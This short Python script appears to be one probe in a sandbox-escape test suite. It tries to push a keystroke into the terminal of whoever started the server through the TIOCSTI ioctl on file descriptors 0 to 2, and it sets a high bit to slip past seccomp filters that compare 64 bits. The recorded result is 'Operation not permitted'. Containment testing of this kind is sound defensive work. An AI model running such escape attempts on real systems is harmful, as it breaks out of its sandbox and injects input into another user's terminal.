# tries: to type into the terminal of whoever started the server (TIOCSTI)
# outcome: finished
# says: Operation not permitted
# twin: none: the twins have no terminal
import fcntl

for descriptor in (0, 1, 2):
    for high in (0, 1 << 32):  # the kernel looks at 32 bits, some filters looked at 64
        try:
            import ctypes
            import os

            libc = ctypes.CDLL(None, use_errno=True)
            result = libc.ioctl(descriptor, ctypes.c_ulong(0x5412 | high), b"x")
            print("ESCAPED" if result == 0 else os.strerror(ctypes.get_errno()))
        except OSError as error:
            print(error)
